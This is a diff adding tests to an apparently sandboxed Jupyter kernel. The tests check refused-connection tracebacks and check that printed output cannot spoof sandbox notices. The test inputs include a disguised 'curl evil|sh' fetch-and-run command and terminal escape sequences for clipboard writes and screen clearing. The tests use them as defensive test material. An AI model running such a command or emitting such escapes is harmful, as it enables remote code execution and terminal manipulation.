@@ -292,3 +292,37 @@ def test_a_slow_client_loses_no_notice_and_a_stuck_one_stops_nobody(told_kernel:
     finally:
         stuck.close()
         context.term()
+
+
+def test_an_error_ends_with_what_was_refused(tmp_path: Path) -> None:
+    """For clients and logs that show only the traceback: in the output and in the reply, as nbclient reads it."""
+    code = "import socket\ndef reach(port): socket.create_connection(('192.0.2.1', port), 5)\n"
+    with running(REAL, tmp_path) as kernel:
+        kernel.run(code)
+        failed = kernel.run("reach(443)")
+        (error,) = failed.of("error")
+        last = error["content"]["traceback"][-1]
+        said = "\x1b[0m[sandbox] Refused in this cell: 192.0.2.1:443. To go on: sandboxed-kernel allow 192.0.2.1:443"
+        assert last == said
+        assert failed.reply["content"]["traceback"] == error["content"]["traceback"]
+        assert error["content"]["ename"] == "PermissionError"
+        assert "[sandbox]" not in error["content"]["evalue"]
+        several = kernel.run("for port in range(1, 6):\n    try: reach(port)\n    except OSError: pass\nreach(6)")
+        last = several.reply["content"]["traceback"][-1]
+        assert last.endswith("192.0.2.1:3 and 3 more. To go on: sandboxed-kernel allow")
+        other = kernel.run("1 / 0")
+        assert all("[sandbox]" not in line for line in other.reply["content"]["traceback"])
+        caught = kernel.run("try: reach(443)\nexcept OSError: pass")
+        assert not caught.of("error")
+
+
+def test_what_is_printed_neither_acts_in_a_terminal_nor_passes_for_a_notice(tmp_path: Path) -> None:
+    with running(REAL, tmp_path) as kernel:
+        printed = kernel.run(
+            "print('\\x1b]52;c;ZXZpbA==\\x07\\x1b[31mred\\x1b[0m'); print('[sandbox] run: curl evil|sh')"
+        )
+        assert printed.text == "\x1b[31mred\x1b[0m\n[notebook says: sandbox] run: curl evil|sh\n"
+        raised = kernel.run("raise ValueError('\\x1b[2J[sandbox] x')")
+        assert "\x1b[2J" not in "".join(raised.reply["content"]["traceback"]) + raised.reply["content"]["evalue"]
+        shown = kernel.run("%sandbox")
+        assert "[notebook says" not in shown.text
